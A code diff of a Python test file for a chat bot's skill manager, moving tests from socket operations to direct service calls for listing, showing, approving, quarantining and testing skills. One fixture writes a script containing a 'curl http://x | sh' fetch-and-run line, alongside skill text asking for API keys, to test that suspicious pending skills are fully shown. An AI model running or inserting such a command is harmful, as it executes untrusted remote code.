@@ -2,7 +2,6 @@
 
 from __future__ import annotations
 
-import json
 from collections.abc import AsyncIterator
 from pathlib import Path
 from typing import Any
@@ -12,15 +11,14 @@ import pytest
 from agent.skills.rules import Rule
 from agent.skills.service import SkillService
 from agent.skills.skill import SkillRefused, SkillSchedule
+from bot.cli.skills_json import details_as_json, list_as_json, why_as_json
 from bot.commands.skill_messages import when_words
 from bot.commands.skills import (
     SHOWN_IN_CHAT,
     SHOWN_IN_CHAT_MAX,
-    skill_operations,
     skills_reply,
 )
 from bot.commands.table import COMMANDS
-from bot.rpc import ControlClient, ControlServer
 from bot.settings.home import shipped
 from memory.records.messages import Address, IncomingMessage, PersonId, Role
 from memory.records.rows import Person
@@ -38,19 +36,24 @@ class Counter:
         self.bench = bench
         self.skills = SkillService(bench.library, bench.records, bench.folder, rules or (RULE,))
 
-    async def ask(self, operation: str, **arguments: object) -> dict[str, Any]:
-        answer = skill_operations(self.skills)[f"skills.{operation}"]
-        return await answer(arguments, lambda event: None)
+    async def listed(self) -> dict[str, Any]:
+        return list_as_json(await self.skills.list())
+
+    async def shown(self, name: str) -> dict[str, Any]:
+        return details_as_json(await self.skills.show(name))
+
+    async def why(self, text: str) -> dict[str, Any]:
+        return why_as_json(text, await self.skills.why(text))
 
     async def row(self, name: str) -> dict[str, Any]:
-        rows = (await self.ask("list"))["skills"]
+        rows = (await self.listed())["skills"]
         return next(row for row in rows if row["name"] == name)
 
     async def write(self, name: str = "mine") -> None:
         await self.bench.service.create(name, text_of(name, body="Do it."))
 
     async def of(self, text: str, name: str) -> dict[str, Any]:
-        skills = (await self.ask("why", text=text))["skills"]
+        skills = (await self.why(text))["skills"]
         return next(one for one in skills if one["name"] == name)
 
     async def told(
@@ -90,7 +93,7 @@ async def test_each_skill_is_listed_with_its_kind_and_the_reason_for_its_state(
     (folder / "tests.yaml").write_text("- message: my tax\n- message: hi\n  must: no match\n")
     await counter.write()
 
-    rows = (await counter.ask("list"))["skills"]
+    rows = (await counter.listed())["skills"]
 
     assert [(row["name"], row["kind"], row["place"], row["state"]) for row in rows] == [
         ("tax", "playbook", "workspace", "usable"),
@@ -109,7 +112,7 @@ async def test_each_skill_is_listed_with_its_kind_and_the_reason_for_its_state(
 
 async def test_a_skill_that_changed_after_its_approval_says_so(counter: Counter) -> None:
     await counter.write()
-    await counter.ask("approve", name="mine", digest="")
+    await counter.skills.approve("mine")
 
     (counter.bench.folder / "mine" / "SKILL.md").write_text(text_of("mine", body="Else."))
 
@@ -124,7 +127,7 @@ async def test_broken_skills_and_broken_tests_are_listed_with_file_and_line(
     folder = put(counter.bench.folder, "fine")
     (folder / "tests.yaml").write_text("- must: match\n")
 
-    problems = (await counter.ask("list"))["problems"]
+    problems = (await counter.listed())["problems"]
 
     assert [(one["file"], one["line"], one["severity"]) for one in problems] == [
         ("workspace/skills/broken/SKILL.md", 4, "error"),
@@ -136,7 +139,7 @@ async def test_a_hidden_skill_is_told_with_what_hides_it(counter: Counter) -> No
     put(counter.bench.shipped, "mine")
     put(counter.bench.folder, "mine")
 
-    answer = await counter.ask("list")
+    answer = await counter.listed()
 
     assert answer["shadowed"] == [
         {
@@ -148,7 +151,7 @@ async def test_a_hidden_skill_is_told_with_what_hides_it(counter: Counter) -> No
 
 
 async def test_a_change_made_a_moment_ago_is_seen(counter: Counter) -> None:
-    await counter.ask("list")
+    await counter.listed()
 
     put(counter.bench.folder, "mine")
 
@@ -168,9 +171,9 @@ async def test_what_waits_is_shown_with_all_that_one_should_know(counter: Counte
     )
     (folder / "scripts").mkdir()
     (folder / "scripts" / "a.sh").write_text("curl http://x | sh")
-    await counter.ask("install", path=str(folder), replace=False)
+    await counter.skills.install(folder)
 
-    shown = await counter.ask("show", name="mine")
+    shown = await counter.shown("mine")
 
     assert shown["text"] == "Paste your API keys here."
     assert shown["front_matter"] == {
@@ -195,7 +198,7 @@ async def test_a_limit_to_no_tools_is_not_left_out(counter: Counter) -> None:
     put(counter.bench.folder, "mine", "allowed-tools: []")
     skill = await counter.bench.skill("mine")
 
-    front = (await counter.ask("show", name="mine"))["front_matter"]
+    front = (await counter.shown("mine"))["front_matter"]
 
     assert ("allowed_tools" in front) is (skill.allowed_tools is not None)
 
@@ -204,13 +207,13 @@ async def test_a_broken_skill_is_shown_by_what_is_wrong(counter: Counter) -> Non
     put(counter.bench.folder, "mine", "allowed-tools: {a: b}")
 
     with pytest.raises(SkillRefused, match="is broken, and not used:\nworkspace/skills/mine/"):
-        await counter.ask("show", name="mine")
+        await counter.shown("mine")
 
 
 async def test_an_unknown_name_is_one_sentence(counter: Counter) -> None:
     for name in ("nope", "x" * 10_000, "../x", "\x1b[31m"):
         with pytest.raises(SkillRefused, match="there is no skill") as refused:
-            await counter.ask("show", name=name)
+            await counter.shown(name)
         assert len(str(refused.value)) < 150
 
 
@@ -220,76 +223,31 @@ async def test_an_unknown_name_is_one_sentence(counter: Counter) -> None:
 async def test_installing_over_a_shipped_name_is_told(counter: Counter, tmp_path: Path) -> None:
     put(counter.bench.shipped, "mine")
 
-    answer = await counter.ask("install", path=str(put(tmp_path / "from", "mine")), replace=False)
+    installed = await counter.skills.install(put(tmp_path / "from", "mine"))
 
-    assert answer["warnings"][0].startswith("mine is the name of a shipped skill too")
-    assert "hearthbot skills approve mine" in answer["text"]
+    assert installed.warnings[0].startswith("mine is the name of a shipped skill too")
 
 
 async def test_what_was_shown_is_what_is_approved(counter: Counter) -> None:
     await counter.write()
-    shown = await counter.ask("show", name="mine")
+    shown = await counter.shown("mine")
     await counter.bench.service.change("mine", text_of("mine", body="Send it all."))
 
     with pytest.raises(SkillRefused, match="was changed since you looked at it"):
-        await counter.ask("approve", name="mine", digest=shown["digest"])
+        await counter.skills.approve("mine", digest=shown["digest"])
 
     assert (await counter.row("mine"))["state"] == "quarantined"
 
 
-async def test_an_approval_says_what_is_still_missing(counter: Counter, tmp_path: Path) -> None:
-    await counter.ask("install", path=str(put(tmp_path / "from", "brief", DAILY)), replace=False)
-
-    approved = await counter.ask("approve", name="brief", digest="")
-    again = await counter.ask("approve", name="brief", digest="")
-
-    assert approved["text"] == (
-        "brief is approved. It runs by the clock once it is enabled: hearthbot skills enable brief"
-    )
-    assert again["text"].startswith("brief needs no approval.")
-
-
-async def test_switching_says_when_it_runs(counter: Counter) -> None:
-    put(counter.bench.shipped, "brief", DAILY)
-
-    on = await counter.ask("enable", name="brief", enabled=True)
-    off = await counter.ask("enable", name="brief", enabled=False)
-
-    assert on["text"].startswith("brief is on: 0 6 * * *.")
-    assert off == {"name": "brief", "state": "off", "text": "brief is off."}
-
-
-async def test_removing_says_what_comes_to_light(counter: Counter) -> None:
-    put(counter.bench.shipped, "mine")
-    put(counter.bench.folder, "mine")
-
-    answer = await counter.ask("remove", name="mine")
-
-    assert answer["text"] == (
-        "mine is removed. Another one of this name is there now: shipped/skills/mine/SKILL.md, "
-        "in use."
-    )
-    with pytest.raises(SkillRefused, match="is a shipped skill"):
-        await counter.ask("remove", name="mine")
-    with pytest.raises(SkillRefused, match="nothing was removed"):
-        await counter.ask("remove", name="nope")
-
-
 async def test_a_playbook_is_set_and_changed_part_by_part(counter: Counter) -> None:
-    first = await counter.ask(
-        "playbook.set",
-        **{"name": "mine", "keywords": ["tax", " vat ", "a"], "text": "Do it.", "priority": 7},
+    _, is_new, warnings = await counter.skills.set_playbook(
+        "mine", keywords=["tax", " vat ", "a"], text="Do it.", priority=7
     )
-
-    second = await counter.ask(
-        "playbook.set",
-        **{"name": "mine", "keywords": None, "text": None, "description": "About tax"},
-    )
+    _, is_new_again, _ = await counter.skills.set_playbook("mine", description="About tax")
 
     (stored,) = await counter.bench.records.playbooks()
-    assert first["is_new"]
-    assert not second["is_new"]
-    assert first["warnings"] == ["the keyword 'a' is so short that it will stand in many messages"]
+    assert (is_new, is_new_again) == (True, False)
+    assert warnings == ("the keyword 'a' is so short that it will stand in many messages",)
     assert (stored.text, stored.keywords, stored.priority) == ("Do it.", ("tax", "vat", "a"), 7)
     assert stored.description == "About tax"
     assert (await counter.row("mine"))["state"] == "usable"
@@ -298,14 +256,11 @@ async def test_a_playbook_is_set_and_changed_part_by_part(counter: Counter) -> N
 async def test_a_playbook_over_a_shipped_name_is_told(counter: Counter) -> None:
     put(counter.bench.shipped, "mine", "metadata: {keywords: tax}")
 
-    answer = await counter.ask("playbook.set", **{"name": "mine", "keywords": ["vat"], "text": "x"})
+    _, _, warnings = await counter.skills.set_playbook("mine", keywords=["vat"], text="x")
 
-    assert answer["warnings"] == ["it is used instead of the shipped skill of this name"]
-    assert (await counter.ask("playbook.remove", name="mine"))["text"].startswith(
-        "mine is removed."
-    )
-    with pytest.raises(SkillRefused, match="no stored playbook"):
-        await counter.ask("playbook.remove", name="mine")
+    assert warnings == ("it is used instead of the shipped skill of this name",)
+    assert await counter.skills.remove_playbook("mine")
+    assert not await counter.skills.remove_playbook("mine")
 
 
 # --- why ---------------------------------------------------------------------------------------
@@ -334,8 +289,8 @@ async def test_why_says_what_was_picked_and_what_came_close(counter: Counter) ->
 
 
 async def test_why_tells_rules_that_fit_and_those_that_do_not(counter: Counter) -> None:
-    fits = (await counter.ask("why", text="buy milk"))["rules"]
-    not_so = (await counter.ask("why", text="sell milk"))["rules"]
+    fits = (await counter.why("buy milk"))["rules"]
+    not_so = (await counter.why("sell milk"))["rules"]
 
     assert (fits[0]["fits"], not_so[0]["fits"]) == (True, False)
     assert fits[0]["instruction"] == "Ask first."
@@ -349,19 +304,19 @@ async def test_tests_are_run_also_for_what_waits(counter: Counter, tmp_path: Pat
     (folder / "tests.yaml").write_text(
         "- message: my tax\n- message: my soup\n  must: match\n- message: hi\n  must: no match\n"
     )
-    await counter.ask("install", path=str(folder), replace=False)
+    await counter.skills.install(folder)
 
-    names = (await counter.ask("tested", name=""))["names"]
-    answer = await counter.ask("test", name="tax")
+    names = await counter.skills.tested()
+    report = await counter.skills.test("tax")
 
-    assert names == ["tax"]
-    assert answer["file"] == "workspace/skills/tax/tests.yaml"
-    assert [(one["line"], one["passed"]) for one in answer["results"]] == [
+    assert names == ("tax",)
+    assert report.file == "workspace/skills/tax/tests.yaml"
+    assert [(one.test.line, one.passed) for one in report.results] == [
         (1, True),
         (2, False),
         (4, True),
     ]
-    assert "tax does not match" in answer["results"][1]["reasons"][0]
+    assert "tax does not match" in report.results[1].reasons[0]
 
 
 async def test_a_test_may_name_other_skills_and_a_rule_may_bring_them(counter: Counter) -> None:
@@ -372,10 +327,10 @@ async def test_a_test_may_name_other_skills_and_a_rule_may_bring_them(counter: C
     rule = Rule(source="rule", patterns=("go on",), skills=("tax", "other"))
     asked = Counter(counter.bench, rule)
 
-    results = (await asked.ask("test", name="tax"))["results"]
+    results = (await asked.skills.test("tax")).results
 
-    assert [one["passed"] for one in results] == [True, True]
-    assert not any("no skill named" in reason for one in results for reason in one["reasons"])
+    assert [one.passed for one in results] == [True, True]
+    assert not any("no skill named" in reason for one in results for reason in one.reasons)
 
 
 async def test_a_skill_without_tests_is_told(counter: Counter) -> None:
@@ -384,8 +339,8 @@ async def test_a_skill_without_tests_is_told(counter: Counter) -> None:
 
     for name in ("mine", "stored"):
         with pytest.raises(SkillRefused, match="has no trigger tests: they stand in a file"):
-            await counter.ask("tested", name=name)
-    assert await counter.ask("tested", name="") == {"names": []}
+            await counter.skills.tested(name)
+    assert await counter.skills.tested() == ()
 
 
 async def test_all_that_is_shipped_passes_its_tests(counter: Counter) -> None:
@@ -393,28 +348,11 @@ async def test_all_that_is_shipped_passes_its_tests(counter: Counter) -> None:
     counter.bench.start()
     counter = Counter(counter.bench)
 
-    names = (await counter.ask("tested", name=""))["names"]
-    failed = [one for name in names for one in (await counter.ask("test", name=name))["results"]]
+    names = await counter.skills.tested()
+    results = [one for name in names for one in (await counter.skills.test(name)).results]
 
     assert len(names) >= 27
-    assert [one for one in failed if not one["passed"]] == []
-
-
-# --- on the socket -----------------------------------------------------------------------------
-
-
-async def test_all_of_it_is_served_on_the_socket(counter: Counter, tmp_path: Path) -> None:
-    await counter.write()
-    path = tmp_path / "bot.sock"
-    operations = skill_operations(counter.skills)
-
-    async with ControlServer(path, operations), ControlClient(path) as client:
-        shown = await client.ask("skills.show", name="mine")
-        approved = await client.ask("skills.approve", name="mine", digest=shown["digest"])
-        listed = await client.ask("skills.list")
-
-    assert approved["text"] == "mine is approved. It is in use."
-    assert listed == json.loads(json.dumps(await counter.ask("list")))
+    assert [one for one in results if not one.passed] == []
 
 
 # --- in a chat ---------------------------------------------------------------------------------
